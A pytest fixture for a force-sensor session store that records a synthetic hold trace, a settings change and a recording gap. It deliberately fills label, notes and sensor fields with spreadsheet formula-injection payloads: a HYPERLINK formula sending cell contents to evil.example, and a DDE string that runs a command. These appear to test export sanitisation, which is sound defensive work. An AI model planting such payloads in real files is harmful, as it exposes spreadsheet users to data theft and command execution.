"""A finished session in a real store: two settings, hostile texts, and a gap."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from presshold.server.store import SessionStore

LABEL = 'neck,=HYPERLINK("http://evil.example/?x="&A1,"click")'
NOTES = "+1 first line\r\n-2 second\tline @3"
HELLO_SENSOR = "=cmd|' /C calc'!A0"  # what a device could put in its hello's sensor= field
CHANGE_T = 24.0


def trace(rate: float = 80.0) -> tuple[np.ndarray, np.ndarray]:
    """Hold at 30 N, then (after the target became 25 N) at 25 N, then 30 N (over), with a
    2 s recording gap at 70 s."""
    t = np.arange(0, 90, 1 / rate)
    t = t[(t < 70) | (t > 72)]
    keys = [0, 2, 20, 21, 25, 27, 45, 46, 50, 52, 62, 63, 90]
    vals = [0, 30, 30, 0, 0, 25, 25, 0, 0, 30, 30, 0, 0]
    f = np.interp(t, keys, vals) + np.random.default_rng(1).normal(0, 0.2, t.size)
    return t + 0.0013, f


@pytest.fixture
def session(tmp_path: Path) -> Iterator[tuple[SessionStore, dict[str, Any]]]:
    store = SessionStore(tmp_path / "data")
    store.open()
    sid = "20261129-100000-abcd"
    settings = {"target_n": 30.0, "tolerance_n": 3.0, "hold_s": 10.0, "grace_s": 0.5}
    settings["min_hold_s"] = 1.0
    store.create_session(
        {
            "id": sid,
            "started_at": "2026-11-29T10:00:00Z",
            "label": LABEL,
            "notes": NOTES,
            "sensor": HELLO_SENSOR,
            "settings": settings,
            "calibration": {"unit": "raw", "scale_n_per_raw": 0.001, "sensor_id": HELLO_SENSOR},
        }
    )
    t, f = trace()
    for a in range(0, t.size, 400):
        part = slice(a, a + 400)
        store.add_block(sid, t[part], f[part], f[part] * 1000 + 8000)
    store.add_event(sid, 0.0, "session_start", {})
    changed = {**settings, "target_n": 25.0, "tolerance_n": 2.5}
    store.add_event(sid, CHANGE_T, "settings", {"settings": changed})
    store.add_event(sid, 5.0, "mark", {"label": "=trap L", "side": "L"})
    store.add_event(sid, float(t[-1]), "session_end", {})
    store.end_session(sid, "2026-11-29T10:01:30Z")
    assert store.sync()
    meta = store.get_session(sid)
    assert meta is not None
    try:
        yield store, meta
    finally:
        store.close()
